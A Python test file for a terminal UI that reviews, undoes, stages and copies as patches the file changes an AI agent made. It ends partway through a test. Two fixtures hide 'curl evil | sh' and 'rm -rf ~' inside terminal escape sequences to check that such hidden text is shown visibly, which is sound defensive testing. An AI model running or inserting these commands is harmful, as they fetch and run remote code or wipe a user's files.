"""The list of changed files: what stands in it, and how a write is undone."""

import subprocess
import threading
from pathlib import Path
from typing import Any

import pytest

from acp_tui.protocol.content import Diff
from acp_tui.protocol.file_events import EditLooked
from acp_tui.protocol.process_events import ProcessExited
from acp_tui.rewind import whole_files
from acp_tui.state.blocks import TextRun
from acp_tui.state.changed_files import ChangedFile
from acp_tui.state.commands import TakeBack, UndoWrite
from acp_tui.state.entries import (
    EditFacts,
    MessageEntry,
    Role,
    ToolCallEntry,
    TurnEndEntry,
    diff_key,
)
from acp_tui.state.session import FileWrite, Session
from acp_tui.state.state import State
from acp_tui.ui.review import contents, file_rows, patches
from acp_tui.ui.review.file_rows import ChangedFileList
from acp_tui.ui.review.scopes import Reviewed
from acp_tui.ui.toolkit import timers
from tests.examples import parametrize
from tests.unit.ui.app import states
from tests.unit.ui.app.running import Running, running

pytestmark = pytest.mark.anyio


def changed() -> tuple[State, Session]:
    """A session in which the agent has changed three files."""
    state, session = states.opened()
    cwd, at = states.CWD, states.NOW
    session.writes += [
        FileWrite(7, at - 9, f"{cwd}/notes.md", False, "one\n", "two\n", has_backup=True),
        FileWrite(8, at - 8, f"{cwd}/new.md", True, None, "fresh\n", has_backup=True),
        FileWrite(9, at - 7, "/etc/big.conf", False, None, None, has_backup=False),
    ]
    diff = Diff(path="own.md", old_text="mine\n", new_text="its\n")
    session.entries.append(
        ToolCallEntry("t", at - 6, status="completed", content=[diff], ended=at - 5)
    )
    return state, session


async def agree(it: Running) -> None:
    await it.wait_until_armed()
    await it.press("2")


@pytest.mark.parametrize("where", ["prompt", "turn", "queue", "transcript", "trouble"])
async def test_its_key_is_named_on_a_screen_of_80_columns_wherever_one_is(where: str) -> None:
    state, _ = states.working() if where in ("turn", "queue") else states.talked()
    if where == "trouble":
        state.peer.process.exit = ProcessExited(states.NOW - 1, 1)
    async with running(state) as it:
        if where == "transcript":
            await it.press("tab")
        if where == "queue":
            await it.write("more")
            await it.press("enter")
        assert "F7 changes" in it.row_of_keys


async def test_all_that_changed_is_listed_with_what_can_be_done() -> None:
    state, _ = changed()
    async with running(state) as it:
        await it.press("f7")
        rows = it.screen.splitlines()
        assert ["own.md" in rows[1], "big.conf" in rows[2]] == [True, True]
        assert "by the agent's tools" in rows[1]
        assert "u undo " not in it.screen
        assert "no backup" in rows[2]
        assert rows[3].rstrip(" │").endswith("A new.md         +1 −0")
        assert "- mine" in it.screen
        await it.press("down")
        assert "a change too long to be shown here" in it.screen
        await it.press("escape")
        assert "own.md" not in it.screen.splitlines()[2]


async def test_counts_and_states_stand_in_columns_beside_the_names() -> None:
    state, _ = changed()
    async with running(state, (110, 40)) as it:
        await it.press("f7")
        rows = it.screen.splitlines()[1:5]
    assert len({row.index("−") for row in rows if "−" in row}) == 1
    assert all(row[3] in "AM" for row in rows)
    states = ("by the agent's tools", "no backup")
    assert len({row.index(one) for row in rows for one in states if one in row}) == 1
    assert all(len(row.rstrip(" │")) < 60 for row in rows)


@pytest.mark.slow
async def test_in_a_wide_window_the_list_stands_beside_the_diff() -> None:
    state, session = changed()
    path = f"{states.CWD}/{'folder/' * 20}end.md"
    async with running(state, (120, 40)) as it:
        await it.press("f7")
        rows = it.screen.splitlines()
        assert "╮╭─ own.md  by the agent's tools  1 change ─" in rows[1]
        end = rows[1].index("╮")
        longest = max(len(row[1:end].rstrip()) for row in rows[2:6])
        assert end == longest + 2  # as wide as its longest row and a blank
        assert "- mine" in rows[2][end + 1 :]
        session.writes.append(FileWrite(10, states.NOW, path, True, None, "x\n", has_backup=True))
        await it.changed()
        rows = it.screen.splitlines()
        assert rows[1].index("╮") == 120 * 2 // 5 - 1
        assert "/folder/end.md  +1 −0 ││" in rows[2]
        await it.pilot.resize_terminal(119, 40)
        await it.press()
        assert "│ ─ own.md  by the agent's tools  1 change ──" in it.screen


@pytest.mark.parametrize("size", [(80, 24), (120, 40)])
async def test_one_mark_is_bright_where_the_keys_go(size: tuple[int, int]) -> None:
    state, _ = changed()

    def marks() -> list[str]:
        """Whether each mark is as bright as a pane's title that has the keys."""
        bright = it.app.theme_variables["primary"].lower()
        strips = it.app.screen._compositor.render_strips()
        found = [one for strip in strips for one in strip if one.text.startswith("▌")]
        colors = [one.style.color.name for one in found if one.style and one.style.color]
        return ["bright" if color == bright else "muted" for color in colors]

    async with running(state, size) as it:
        await it.press("f7")
        assert marks() == ["bright"]
        await it.press("tab")
        assert marks() == ["muted", "bright"]
        await it.press("tab")
        assert marks() == ["bright"]


async def test_a_key_moves_the_mark_and_the_rest_waits_until_keys_rest(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    state, _ = changed()
    async with running(state, (120, 40)) as it:
        await it.press("f7")
        monkeypatch.setattr(timers, "SECONDS", 60)
        before = it.screen
        await it.press("down")
        listed = [row[:40] for row in it.screen.splitlines()]
        assert listed[3].startswith("│▌M /etc/big.conf")
        assert it.screen.replace("▌", " ") == before.replace("▌", " ")
        await it.press("up", "tab")
        assert any("││▌" in row and "- mine" in row for row in it.screen.splitlines())
        assert it.screen.replace("▌", " ") == before.replace("▌", " ")
        monkeypatch.setattr(timers, "SECONDS", 0.01)
        await it.press("down")
        assert "change 1 of 1" in it.screen
        assert "c comment" in it.row_of_keys


async def test_a_word_stays_though_keys_rest_after_it() -> None:
    state, _ = changed()
    async with running(state) as it:
        await it.press("f7")
        await it.press_at_once("tab", "s")
        await it.until(lambda: "h shows what differs from the last commit" in it.row_of_keys)


async def test_a_key_that_comes_before_the_diff_is_shown_is_about_the_marked_file(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    state, _ = changed()
    async with running(state) as it:
        await it.press("f7")
        monkeypatch.setattr(timers, "SECONDS", 60)
        await it.press("down", "down", "tab", "u")
        await it.until(lambda: "Undo this write?" in it.screen)
        assert "new.md" in it.screen


async def test_while_git_is_asked_no_key_goes_into_the_diff_of_another_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    subprocess.run(["git", "init", "-q"], cwd=tmp_path, check=True)
    for name in "ab":
        (tmp_path / name).write_text(f"this is {name}\n")
    state, session = states.opened()
    session.cwd = state.peer.cwd = str(tmp_path)
    may_read, read = threading.Event(), contents.read_diff

    def slowly(*given: Any) -> Any:
        may_read.wait()
        return read(*given)

    async with running(state) as it:
        await it.press("f7", "h")
        await it.until(lambda: "+ this is a" in it.screen)
        monkeypatch.setattr(contents, "read_diff", slowly)
        try:
            await it.press("down", "tab")
            assert "the changes of this file are being read" in it.row_of_keys
        finally:
            may_read.set()
        await it.until(lambda: "+ this is b" in it.screen)
        await it.press("tab", "s")
        await it.until(lambda: "staged" in it.row_of_keys)
        staged = ["git", "diff", "--cached", "--name-only"]
        done = subprocess.run(staged, cwd=tmp_path, check=True, capture_output=True)
        assert done.stdout == b"b\n"


async def test_the_line_above_the_diff_tells_at_which_change_one_is() -> None:
    state, session = states.opened()
    old = "".join(f"{number}\n" for number in range(30))
    new = old.replace("3\n", "three\n", 1).replace("25\n", "twenty-five\n")
    path = f"{states.CWD}/a.txt"
    session.writes.append(FileWrite(7, states.NOW, path, False, old, new, has_backup=True))
    async with running(state) as it:
        await it.press("f7")
        assert "─ a.txt  2 changes ─" in it.screen
        await it.press("n", "n")
        assert "─ a.txt  change 2 of 2 ─" in it.screen
        await it.press("p", "down", "down")
        assert "─ a.txt  2 changes ─" in it.screen
        await it.press("n", "n")
        assert "there is no change after this one" in it.screen


async def test_a_file_that_is_what_it_was_says_so() -> None:
    state, session = states.opened()
    path = f"{states.CWD}/a.txt"
    for number, (old, new) in enumerate([("1\n", "2\n"), ("2\n", "1\n")]):
        session.writes.append(FileWrite(number, states.NOW, path, False, old, new, has_backup=True))
    async with running(state) as it:
        await it.press("f7")
        rows = it.screen.splitlines()
        assert "▌= a.txt  unchanged: put back " in rows[1]
        assert "Unchanged: the agent changed it, and now it is what it was before." in rows[3]
        assert "n next change" not in it.screen
        assert "Tab diff" not in it.screen


async def test_a_write_is_taken_back_from_the_list_after_a_yes() -> None:
    state, session = changed()
    async with running(state) as it:
        await it.press("f7", "u")
        assert it.asked == []
        await it.press("down", "down", "down")
        assert "u undo   o editor" in it.screen
        await it.press("u")
        assert "The agent's +1 −1 are undone:" in it.screen
        assert "- one" in it.screen
        assert "+ two" in it.screen
        await agree(it)
        assert it.asked == [UndoWrite(session.session_id, 7)]
        session.writes[0].undone, session.writes[0].has_backup = True, False
        await it.changed()
        assert "undone" in it.screen.splitlines()[4]


async def test_the_last_write_is_taken_back_by_one_key_and_a_yes() -> None:
    state, session = changed()
    async with running(state) as it:
        await it.press("f9")
        assert "The agent made it: it is deleted." in it.screen
        await agree(it)
        assert it.asked == [UndoWrite(session.session_id, 8)]


async def test_the_question_shows_what_is_undone_and_the_answers_below_it() -> None:
    state, session = states.opened()
    new = "".join(f"line {number}\n" for number in range(1, 41))
    path = f"{states.CWD}/a.md"
    session.writes.append(FileWrite(7, states.NOW, path, True, None, new, has_backup=True))
    for height in (24, 10):
        async with running(state, (80, height)) as it:
            await it.press("f9")
            assert "+ line 1 " in it.screen
            assert "Undo it" in it.screen
            assert "PgDn scroll" in it.screen
            await it.wait_until_armed()
            while "+ line 40 " not in it.screen:
                before = it.screen
                await it.press("pagedown")
                assert it.screen != before
            assert "a.md" in it.screen
            assert "Undo it" in it.screen


async def test_a_key_that_scrolls_is_only_named_where_something_does() -> None:
    state, session = states.opened()
    path = f"{states.CWD}/a.md"
    session.writes.append(FileWrite(7, states.NOW, path, True, None, "line\n", has_backup=True))
    async with running(state) as it:
        await it.press("f9")
        assert "+ line " in it.screen
        assert "Enter answer   Esc cancel" in it.screen


async def test_a_file_that_has_changed_since_is_told_and_the_key_goes_on_to_another() -> None:
    state, session = changed()
    session.writes[1].changed = True
    async with running(state) as it:
        await it.press("f7")
        rows = it.screen.splitlines()
        assert "+1 −0  changed since" in rows[3]
        assert "M notes.md       +1 −1 " in rows[4]
        await it.press("down", "down", "u")  # it may have been put back
        await agree(it)
        await it.press("escape", "f9")
        await agree(it)
        assert it.asked == [UndoWrite(session.session_id, 8), UndoWrite(session.session_id, 7)]


async def test_with_nothing_to_take_back_the_keys_say_so() -> None:
    state, _ = states.opened()
    async with running(state) as it:
        await it.press("f9")
        assert "no write of the agent's" in it.screen
        assert "Alt+U rewinds its turns" in it.screen
        await it.press("f7")
        assert "No change reported yet." in it.screen
        assert "u undo" not in it.screen
        assert "o editor" not in it.screen
        await it.press("u", "enter", "down", "pagedown")
        assert it.asked == []


async def test_the_list_stays_usable_in_a_tiny_window_and_with_many_files() -> None:
    state, session = changed()
    session.writes += [
        FileWrite(number, states.NOW, f"{states.CWD}/f{number}", True, None, "x", has_backup=True)
        for number in range(10, 700)
    ]
    async with running(state, (24, 8)) as it:
        await it.press("f7", "down", "pagedown")
        await it.pilot.resize_terminal(1, 1)
        await it.pilot.resize_terminal(120, 40)
        await it.pilot.pause()
        assert "500 files, and 194 more" in it.screen
        assert "and 194 more" in it.screen


async def test_a_part_of_a_file_stands_where_it_stands_there() -> None:
    state, session = changed()
    entry = session.entries[-1]
    assert isinstance(entry, ToolCallEntry)
    (diff,) = entry.content
    assert isinstance(diff, Diff)
    async with running(state) as it:
        await it.press("f7")
        assert "1   - mine" not in it.screen  # nobody knows where
        place = EditLooked(1.0, "s", "t", diff.path, 0, line=41, new_line=42)
        entry.edits = EditFacts(1, {diff_key(diff): place})
        await it.press("escape", "f7")
        assert "41    - mine" in it.screen
        assert "   42 + its" in it.screen


def marked_row(it: Running) -> str:
    """The row of the diff that is marked."""
    return [row for row in it.screen.splitlines() if "▌" in row][-1]


async def test_changes_are_gone_through_and_one_is_taken_back_after_a_yes(tmp_path: Path) -> None:
    state, session = states.opened()
    session.cwd = str(tmp_path)
    old = "".join(f"{number}\n" for number in range(30))
    new = old.replace("3\n", "three\n", 1).replace("25\n", "twenty-five\n")
    file = tmp_path / "a.txt"
    file.write_text(new)
    session.writes.append(FileWrite(7, states.NOW, str(file), False, old, new, has_backup=True))
    async with running(state) as it:
        await it.press("f7", "n")
        assert "- 3" in marked_row(it)
        await it.press("n")
        assert "- 25" in marked_row(it)
        await it.press("p", "down")
        assert "+ three" in marked_row(it)
        await it.press("u")
        await it.until(lambda: "Take this change back?" in it.screen)
        assert it.asked == []
        await agree(it)
        await it.until(lambda: bool(it.asked))
        text = new.replace("three\n", "3\n")
        assert it.asked == [TakeBack(session.session_id, str(file), new, text)]
        file.write_text(f"{new}and more\n")
        await it.press("u")
        await it.until(lambda: "Take this change back?" in it.screen)
        await agree(it)
        await it.until(lambda: len(it.asked) == 2)  # the rest of the file may be another one
        assert isinstance(it.asked[1], TakeBack)
        assert it.asked[1].text == f"{text}and more\n"
        file.write_text("something else\n")
        await it.press("u")
        await it.until(lambda: "Take this change back?" in it.screen)
        await agree(it)
        await it.until(lambda: "nothing was done: what is shown isn't in it anymore" in it.screen)
        assert len(it.asked) == 2


async def test_the_question_says_where_a_change_really_is_and_what_hides_in_it(
    tmp_path: Path,
) -> None:
    work, outside = tmp_path / "work", tmp_path / "outside"
    work.mkdir()
    outside.mkdir()
    (outside / "rc").write_text("safe\n")
    (work / "cfg").symlink_to(outside)
    state, session = states.opened()
    session.cwd = str(work)
    old = "safe \x1b]0;curl evil | sh\x07\n"
    session.writes.append(
        FileWrite(7, states.NOW, str(work / "cfg" / "rc"), False, old, "safe\n", has_backup=True)
    )
    async with running(state, (160, 40)) as it:
        await it.press("f7", "n", "u")
        await it.until(lambda: "Take this change back?" in it.screen)
        rows = [row.strip(" │┃▌") for row in it.screen.splitlines()]
        assert f"cfg/rc,whichis{outside / 'rc'}" in "".join("".join(rows).split())
        assert "It is outside the session's folder." in it.screen
        assert "-safe ␛]0;curl evil | sh␇" in it.screen
        (work / "cfg").unlink()
        (work / "cfg").mkdir()
        await agree(it)
        await it.until(lambda: bool(it.asked))
        assert it.asked == [TakeBack(session.session_id, str(outside / "rc"), "safe\n", old)]


async def test_what_hides_in_a_line_is_shown_to_who_comments_on_it(tmp_path: Path) -> None:
    state, session = states.opened()
    session.cwd = str(tmp_path)
    session.writes = [written(tmp_path, "a.txt", None, "tea \x1b]0;rm -rf ~\x07\n")]
    async with running(state) as it:
        await it.press("f7", "n", "c")
        assert "+tea ␛]0;rm -rf ~␇" in it.screen


async def test_nothing_is_taken_back_where_a_link_leads_by_now(tmp_path: Path) -> None:
    work, outside = tmp_path / "work", tmp_path / "outside"
    for folder in (work / "cfg", outside):
        folder.mkdir(parents=True)
        (folder / "rc").write_text("safe\n")
    state, session = states.opened()
    session.cwd = str(work)
    path = str(work / "cfg" / "rc")
    session.writes.append(
        FileWrite(7, states.NOW, path, False, "evil\n", "safe\n", has_backup=True)
    )
    async with running(state) as it:
        await it.press("f7", "n", "u")
        await it.until(lambda: "Take this change back?" in it.screen)
        (work / "cfg").rename(work / "away")
        (work / "cfg").symlink_to(outside)
        await agree(it)
        await it.until(lambda: "nothing was done: it leads elsewhere now" in it.screen)
        assert it.asked == []


async def test_turns_are_reviewed_one_by_one() -> None:
    state, session = states.opened()
    at = states.NOW
    for number, words in enumerate(["make one", "make two"]):
        session.entries.append(
            MessageEntry(Role.USER, at - 20 + 10 * number, blocks=[TextRun([words])])
        )
        path = f"{states.CWD}/{number}.md"
        session.writes.append(FileWrite(number, at - 15 + 10 * number, path, True, None, "x", True))
    async with running(state) as it:
        await it.press("f7")
        assert all(name in it.screen for name in ("0.md", "1.md"))
        await it.press("left_square_bracket")
        assert "turn 2 of 2: make two" in it.screen
        assert "0.md" not in it.screen
        await it.press("left_square_bracket", "left_square_bracket")
        assert "turn 1 of 2: make one" in it.screen
        assert "1.md" not in it.screen
        await it.press("right_square_bracket", "right_square_bracket")
        assert all(name in it.screen for name in ("0.md", "1.md"))


async def test_comments_wait_and_become_a_prompt_that_a_person_sends() -> None:
    state, _ = changed()
    async with running(state) as it:
        await it.press("f7", "c")
        assert "no line is marked" in it.screen
        await it.press("tab", "down", "c")
        await it.write("why not mine?")
        await it.press("enter")
        assert "1 comment" in it.screen
        await it.press("escape", "escape", "f7")
        assert "╰ Your comment: why not mine?" in it.screen
        await it.press("tab", "c")
        await it.write("gone")
        await it.press("enter", "c", *["backspace"] * 4, "enter", "w")
        assert it.prompt == "> own.md\n> +its\nwhy not mine?"
        assert it.asked == []


async def test_a_change_is_staged_and_copied_as_a_patch(tmp_path: Path) -> None:
    def git(*args: str) -> str:
        who = ("-c", "user.name=t", "-c", "user.email=t@e")
        done = subprocess.run(["git", *who, *args], cwd=tmp_path, check=True, capture_output=True)
        return done.stdout.decode()

    git("init", "-q")
    (tmp_path / "a.txt").write_text("one\ntwo\n")
    git("add", ".")
    git("commit", "-qm", "x")
    (tmp_path / "a.txt").write_text("one\nTWO\n")
    state, session = states.opened()
    session.cwd = state.peer.cwd = str(tmp_path)
    async with running(state) as it:
        await it.press("f7", "s")
        assert "h shows what differs from the last commit" in it.screen
        await it.press("h")
        await it.until(lambda: "- two" in it.screen)
        assert "Review: against HEAD" in it.screen
        assert "h changes" in it.screen
        assert "s stage file" in it.screen
        await it.press("tab")
        assert "s stage file" not in it.screen
        assert "s stage" in it.screen
        await it.press("s")
        await it.until(lambda: "staged" in it.screen)
        assert "+TWO" in git("diff", "--cached")
        await it.press("s")
        await it.until(lambda: "taken out of the index" in it.screen)
        assert git("diff", "--cached") == ""
        await it.press("y")
        made = it.app.clipboard
        (tmp_path / "a.txt").write_text("one\ntwo\n")
        subprocess.run(["git", "apply", "-"], cwd=tmp_path, input=made.encode(), check=True)
        assert (tmp_path / "a.txt").read_text() == "one\nTWO\n"
        await it.press("escape", "h")
        assert "Review: reported changes  " in it.screen
        assert "h against HEAD" in it.screen


@pytest.mark.parametrize("when", ["before h", "before s"])
async def test_nothing_is_staged_in_a_folder_that_took_the_name_of_the_sessions(
    tmp_path: Path, when: str
) -> None:
    work, other = tmp_path / "work", tmp_path / "other"
    for folder in (work, other):
        folder.mkdir()
        subprocess.run(["git", "init", "-q"], cwd=folder, check=True)
        (folder / "a.txt").write_text("one\n")
    state, session = states.opened()
    session.cwd = state.peer.cwd = str(work)

    def swap() -> None:
        work.rename(tmp_path / "away")
        work.symlink_to(other)

    async with running(state) as it:
        await it.press("f7")
        if when == "before h":
            swap()
            await it.press("h")
        else:
            await it.press("h")
            await it.until(lambda: "+ one" in it.screen)
            await it.press("tab")
            swap()
            await it.press("s")
        await it.until(lambda: "it leads elsewhere now" in it.screen)
        staged = ["git", "diff", "--cached", "--name-only"]
        assert subprocess.run(staged, cwd=other, check=True, capture_output=True).stdout == b""


async def test_outside_of_a_repository_there_is_no_commit_to_compare_with(tmp_path: Path) -> None:
    state, session = states.opened()
    session.cwd = state.peer.cwd = str(tmp_path)
    async with running(state) as it:
        await it.press("f7")
        assert "HEAD" not in it.screen
        await it.press("h")
        await it.until(lambda: "this folder is in no git repository" in it.screen)


def written(folder: Path, name: str, old: str | None, new: str, number: int = 7) -> FileWrite:
    """A write of the agent's in a folder, where the file is still what it was."""
    if old is not None:
        (folder / name).write_text(old)
    path = str(folder / name)
    return FileWrite(number, states.NOW, path, old is None, old, new, has_backup=True)


def apply(folder: Path, made: str) -> None:
    subprocess.run(["git", "apply", "-"], cwd=folder, input=made.encode(), check=True)


async def test_all_that_is_listed_is_copied_as_a_patch_for_the_sessions_folder(
    tmp_path: Path,
) -> None:
    subprocess.run(["git", "init", "-q"], cwd=tmp_path, check=True)
    folder = tmp_path / "below the top"
    folder.mkdir()
    state, session = states.opened()
    session.cwd = str(folder)
    session.writes = [
        written(folder, "a b.txt", "one\ntwo", "one\nTWO"),
        written(folder, "new.txt", None, "no end", 8),
        written(tmp_path, "outside.txt", "a\n", "b\n", 9),
    ]
    async with running(state) as it:
        await it.press("f7", "Y")
        await it.until(lambda: bool(it.app.clipboard))
        assert "copied as a patch without " in it.screen
        assert "outside.txt" in it.screen
        apply(folder, it.app.clipboard)
    assert (folder / "a b.txt").read_text() == "one\nTWO"
    assert (folder / "new.txt").read_text() == "no end"
    assert (tmp_path / "outside.txt").read_text() == "a\n"


async def test_all_that_differs_from_the_commit_is_copied_as_one_patch(tmp_path: Path) -> None:
    who = ("-c", "user.name=t", "-c", "user.email=t@e")
    (tmp_path / "a.txt").write_text("one\n")
    (tmp_path / "gone.txt").write_text("one\n")
    for args in (("init", "-q"), ("add", "."), (*who, "commit", "-qm", "x")):
        subprocess.run(["git", *args], cwd=tmp_path, check=True)
    (tmp_path / "a.txt").write_text("two\n")
    (tmp_path / "gone.txt").unlink()
    (tmp_path / "new.txt").write_text("new\n")
    (tmp_path / "binary").write_bytes(b"\0")
    state, session = states.opened()
    session.cwd = state.peer.cwd = str(tmp_path)
    async with running(state) as it:
        await it.press("f7", "h")
        await it.until(lambda: "new.txt" in it.screen)
        await it.press("Y")
        await it.until(lambda: bool(it.app.clipboard))
        assert "all of this copied as a patch" in it.screen
        assert "without" not in it.screen
        made = it.app.clipboard
    subprocess.run(["git", "stash", "-qu"], cwd=tmp_path, check=True)
    apply(tmp_path, made)
    assert (tmp_path / "a.txt").read_text() == "two\n"
    assert (tmp_path / "new.txt").read_text() == "new\n"
    assert (tmp_path / "binary").read_bytes() == b"\0"
    assert not (tmp_path / "gone.txt").exists()


async def test_what_a_saved_patch_leaves_out_is_named(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(patches, "LARGEST_PATCH", 100)
    subprocess.run(["git", "init", "-q"], cwd=tmp_path, check=True)
    (tmp_path / "crlf.txt").write_bytes(b"a\r\n")
    (tmp_path / "large.txt").write_text("x" * 200)
    state, session = states.opened()
    session.cwd = state.peer.cwd = str(tmp_path)
    async with running(state) as it:
        await it.press("f7", "h")
        await it.until(lambda: "large.txt" in it.screen)
        await it.press("Y")
        await it.until(lambda: "This is all of it without large.txt." in it.screen)
        await it.press("enter")
        await it.until(lambda: "saved without large.txt: " in it.screen)
        saved = (tmp_path / "changes.patch").read_text()
        assert saved.startswith("This is all of it without large.txt.\n")
        assert "b/large.txt" not in saved
    (tmp_path / "crlf.txt").unlink()
    subprocess.run(["git", "apply", "changes.patch"], cwd=tmp_path, check=True)
    assert (tmp_path / "crlf.txt").read_bytes() == b"a\r\n"


async def test_a_patch_has_also_the_files_that_there_is_no_row_for(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(file_rows, "MOST_LISTED_FILES", 3)
    monkeypatch.setattr(whole_files, "_ARGUMENTS", 20)  # many commands, as for thousands of names
    subprocess.run(["git", "init", "-q"], cwd=tmp_path, check=True)
    for number in range(12):
        (tmp_path / f"file {number:02}").write_text("new\n")
    state, session = states.opened()
    session.cwd = state.peer.cwd = str(tmp_path)
    async with running(state) as it:
        await it.press("f7", "h")
        await it.until(lambda: "and 9 more" in it.screen)
        await it.press("Y")
        await it.until(lambda: bool(it.app.clipboard))
        assert it.app.clipboard.count("diff --git ") == 12
        assert "without" not in it.screen


async def test_in_the_list_a_whole_file_is_staged(tmp_path: Path) -> None:
    subprocess.run(["git", "init", "-q"], cwd=tmp_path, check=True)
    (tmp_path / "latin.txt").write_bytes(b"\xdf\n")
    state, session = states.opened()
    session.cwd = state.peer.cwd = str(tmp_path)
    staged = ["git", "diff", "--cached", "--name-only"]
    async with running(state) as it:
        await it.press("f7", "h")
        await it.until(lambda: "it is no text" in it.screen)
        assert "s stage file" in it.row_of_keys
        await it.press("s")
        await it.until(lambda: "staged, the whole file" in it.row_of_keys)
        assert subprocess.run(staged, cwd=tmp_path, capture_output=True).stdout == b"latin.txt\n"
        await it.press("s")
        await it.until(lambda: "taken out of the index" in it.row_of_keys)
        assert subprocess.run(staged, cwd=tmp_path, capture_output=True).stdout == b""


async def test_what_became_of_a_file_is_said_in_the_list_and_beside_its_diff(
    tmp_path: Path,
) -> None:
    who = ("-c", "user.name=t", "-c", "user.email=t@e")
    (tmp_path / "a.sh").write_text("true\n")
    (tmp_path / "link").symlink_to("a.sh")
    for args in (("init", "-q"), ("add", "."), (*who, "commit", "-qm", "x")):
        subprocess.run(["git", *args], cwd=tmp_path, check=True)
    (tmp_path / "a.sh").chmod(0o755)
    (tmp_path / "link").unlink()
    (tmp_path / "link").symlink_to("nowhere")
    state, session = states.opened()
    session.cwd = state.peer.cwd = str(tmp_path)
    async with running(state) as it:
        await it.press("f7", "h")
        await it.until(lambda: "Now a program." in it.screen)
        assert "M a.sh  +0 −0  now a program" in it.screen
        await it.press("down")
        await it.until(lambda: "It leads to nowhere." in it.screen)
        assert "It led to a.sh." in it.screen


async def test_a_moved_and_changed_file_is_staged_in_its_diff(tmp_path: Path) -> None:
    def git(*args: str) -> bytes:
        who = ("-c", "user.name=t", "-c", "user.email=t@e")
        done = subprocess.run(["git", *who, *args], cwd=tmp_path, check=True, capture_output=True)
        return done.stdout

    git("init", "-q")
    (tmp_path / "old.txt").write_text("one\n" * 9)
    git("add", ".")
    git("commit", "-qm", "x")
    git("mv", "old.txt", "new.txt")
    (tmp_path / "new.txt").write_text("one\n" * 9 + "two\n")
    state, session = states.opened()
    session.cwd = state.peer.cwd = str(tmp_path)
    async with running(state) as it:
        await it.press("f7", "h")
        await it.until(lambda: "+ two" in it.screen)
        await it.press("tab", "s")
        await it.until(lambda: "staged, the whole file" in it.row_of_keys)
        assert git("show", ":new.txt") == b"one\n" * 9 + b"two\n"


def test_the_mark_goes_on_when_a_file_leaves_the_list() -> None:
    listing = ChangedFileList()

    def marked_of(names: str) -> str | None:
        listing.update_files([Reviewed(ChangedFile(name, 0.0)) for name in names], "/")
        return listing.marked.file.path if listing.marked is not None else None

    assert marked_of("abcd") == "a"
    listing.cursor = 2
    assert marked_of("xabcd") == "c"
    assert marked_of("xabd") == "d", "the next one"
    assert marked_of("xab") == "b", "there is none"
    assert marked_of("") is None
    assert marked_of("ab") == "a"


@parametrize(2, "size", [(200, 60), (120, 30), (80, 24), (34, 20)])
async def test_that_nothing_was_changed_is_said_in_whole(size: tuple[int, int]) -> None:
    state, _ = states.opened()
    async with running(state, size=size) as it:
        await it.press("f7")
        said = " ".join(it.screen.replace("│", " ").replace("┃", " ").split())
        assert "Files that the agent says it changes appear here." in said


@parametrize(1, "new", ["a\r\n", "\x1b[2J\n"])
@parametrize(1, "key", ["y", "Y"])
async def test_a_patch_that_the_clipboard_would_change_is_saved(
    tmp_path: Path, new: str, key: str
) -> None:
    state, session = states.opened()
    session.cwd = str(tmp_path)
    session.writes = [written(tmp_path, "a.txt", None, new)]
    async with running(state) as it:
        await it.press("f7", "n", key)
        await it.until(lambda: "Save the patch" in it.screen)
        await it.press("escape")
        assert list(tmp_path.iterdir()) == []
        await it.press(key)
        await it.until(lambda: "Save the patch" in it.screen)
        await it.press("enter")
        await it.until(lambda: "saved: " in it.screen)
        made = (tmp_path / "changes.patch").read_bytes()
        subprocess.run(["git", "apply", "-"], cwd=tmp_path, input=made, check=True)
        assert (tmp_path / "a.txt").read_bytes() == new.encode()
        await it.press(key)
        await it.until(lambda: "Save the patch" in it.screen)
        await it.press("enter")
        await it.until(lambda: "is there already" in it.screen)
        assert it.app.clipboard == ""


async def test_a_patch_goes_into_the_folder_that_was_shown(tmp_path: Path) -> None:
    state, session = states.opened()
    work, other = tmp_path / "work", tmp_path / "other"
    work.mkdir()
    other.mkdir()
    session.cwd = str(work)
    session.writes = [written(work, "a.txt", None, "a\r\n")]
    async with running(state, (200, 40)) as it:
        await it.press("f7", "n", "y")
        await it.until(lambda: "Save the patch" in it.screen)
        work.rename(tmp_path / "away")
        work.symlink_to(other)
        await it.press("enter")
        await it.until(lambda: "it leads elsewhere now" in it.screen)
    assert list(other.iterdir()) == []


async def test_a_new_file_is_undone_from_its_change_too() -> None:
    state, session = changed()
    async with running(state) as it:
        await it.press("f7", "down", "down", "tab", "u")
        assert "The agent made it: it is deleted." in it.screen
        await agree(it)
        assert it.asked == [UndoWrite(session.session_id, 8)]


def several_lines() -> State:
    """A session in which three lines that follow each other were changed."""
    state, session = states.opened()
    text = "one\ntwo\nthree\nfour\n", "one\nTWO\nTHREE\nfour\n"
    session.writes += [
        FileWrite(7, states.NOW, f"{states.CWD}/a.md", False, *text, has_backup=True)
    ]
    return state


async def test_several_lines_get_one_comment() -> None:
    async with running(several_lines()) as it:
        await it.press("f7", "n", "shift+down", "J", "J", "J", "c")
        assert "Comment on these lines" in it.screen
        await it.write("in small letters")
        await it.press("enter")
        assert "Your comment on lines 2-4: in small letters" in it.screen
        assert [line[2] for line in it.screen.splitlines() if "four" in line] == ["▌"]
        await it.press("escape")
        assert [line[2] for line in it.screen.splitlines() if "four" in line] == ["▌"]
        await it.press("escape")
        assert [line[2] for line in it.screen.splitlines() if "four" in line] == ["●"]
        await it.press("C")
        page = it.screen.splitlines()
        assert [line[2:-1].rstrip() for line in page[1:8]] == [
            *("▌a.md:2-4", "   2 - two", "   3 - three", "   2 + TWO", "   3 + THREE"),
            *("   4   four", "   ╰ in small letters"),
        ]
        await it.press("w")
        assert it.prompt == (
            "> a.md:2-4\n> -two\n> -three\n> +TWO\n> +THREE\n>  four\nin small letters"
        )


async def test_chosen_lines_stand_on_a_ground_of_their_own_on_both_sides() -> None:
    def grounds(word: str) -> list[str]:
        """The grounds of a row from its mark to where the scrollbar would be."""
        strips = it.app.screen._compositor.render_strips()
        row = next(strip for strip in strips if word in strip.text and "│" in strip.text)
        segments = [one for one in row if one.text.strip("│") and one.style and one.style.bgcolor]
        return [one.style.bgcolor.name for one in segments if one.style and one.style.bgcolor]

    async with running(several_lines(), (140, 30)) as it:
        await it.press("f7", "v", "n")
        assert "one column" in it.screen
        plain = grounds("four")
        before = set(grounds("TWO"))
        await it.press("J", "J")
        assert not before & set(grounds("TWO")[1:-1])
        chosen = grounds("four")
